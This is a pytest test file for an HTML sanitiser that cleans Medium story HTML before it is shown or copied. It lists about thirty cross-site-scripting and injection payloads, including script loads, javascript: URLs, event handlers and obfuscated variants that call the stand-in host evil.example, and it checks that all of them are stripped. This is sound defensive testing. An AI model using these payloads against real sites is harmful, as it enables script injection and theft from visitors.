"""The one place that decides what of somebody else's HTML reaches a browser or a clipboard."""

import re
from dataclasses import asdict

import pytest
from bs4 import BeautifulSoup

from pelican_medium.desk import paste
from pelican_medium.preview import story
from pelican_medium.preview.sanitise import KEPT, sanitise

HOSTILE = [
    "<script>taken()</script>",
    "<SCRIPT SRC=//evil.example/a.js></SCRIPT>",
    "<style>@import 'https://evil.example'</style>",
    "<iframe srcdoc='<script>taken()</script>'></iframe>",
    "<svg><script>taken()</script><a xlink:href='javascript:taken()'>x</a></svg>",
    "<math><mtext><style><img src=x onerror=taken()></style></mtext></math>",
    "<img src=x onerror='taken()'>",
    "<img src='javascript:taken()' alt='x'>",
    "<img src='https://x.example/a.png' onload='taken()' srcset='https://evil.example/b 1x'>",
    "<a href='javascript:taken()'>x</a>",
    "<a href=' JaVaScRiPt:taken()'>x</a>",
    "<a href='java\tscript:taken()'>x</a>",
    "<a href='\x01javascript:taken()'>x</a>",
    "<a href='data:text/html,<script>taken()</script>'>x</a>",
    "<a href='vbscript:taken()'>x</a>",
    "<a href='https://x.example' ping='https://evil.example' onclick='taken()'>x</a>",
    "<p style='background: url(https://evil.example)' onmouseover='taken()'>x</p>",
    "<pre data-code-block-lang='x\" onclick=\"taken()' onclick='taken()'>x</pre>",
    "<blockquote class='graf--pullquote taken()'>x</blockquote>",
    "<!--[if IE]><script>taken()</script><![endif]-->",
    "<form action='https://evil.example'><input autofocus onfocus='taken()'></form>",
    "<object data='https://evil.example'></object><embed src='https://evil.example'>",
    "<meta http-equiv='refresh' content='0; url=https://evil.example'><base href='//evil.example'>",
    "<template><script>taken()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=taken()>'></p></noscript>",
    "<textarea></textarea><script>taken()</script></textarea>",
    "<video poster='https://evil.example'><source onerror='taken()'></video>",
    "<isindex action='javascript:taken()' type=image>",
    "<plaintext><script>taken()</script>",
]

#: Every way out: the function itself, what is shown and what is copied.
WAYS = {
    "function": lambda html: sanitise(html, {}.get).decode_contents(),
    "shown": lambda html: "".join(asdict(story.read(html, {}.get)).values()),
    "copied": lambda html: paste.ready(html, "").html,
}

ATTRIBUTES = {
    "a": {"href", "name", "id"},
    "img": {"src", "alt", "name", "id"},
    "pre": {
        *("data-code-block-lang", "data-code-block-mode", "tabindex", "role", "aria-label"),
        *("name", "id"),
    },
    "blockquote": {"class", "name", "id"},
}


@pytest.mark.parametrize("way", WAYS.values(), ids=WAYS)
@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_that_runs_loads_or_leads_astray_comes_through(way, html):
    """Whatever is tried, only known elements, attributes and addresses are left."""
    left = way(f"<p>before</p>{html}<p>after</p>")
    assert "evil.example" not in left
    for tag in BeautifulSoup(left, "html.parser").find_all(name=True):
        assert tag.name in KEPT
        assert set(tag.attrs) <= ATTRIBUTES.get(tag.name, {"name", "id"})
        assert re.match("#|https?:|about:invalid", tag.get("href", "#"))
        assert "taken" not in " ".join(map(str, tag.attrs.values()))
    assert left.startswith("<p>before</p>")


def test_a_story_comes_through_as_it_is():
    """What Medium can show keeps its elements, links, names and languages."""
    html = (
        '<h1>T</h1><p name="a">b <a href="mailto:you@x.example">c</a> <a href="#a">d</a></p>'
        '<pre data-code-block-lang="c++" data-code-block-mode="2">x &lt; y</pre>'
        '<figure><img alt="e" src="https://x.example/e.png"/><figcaption>f</figcaption></figure>'
    )
    assert sanitise(html, lambda src: src).decode_contents() == html
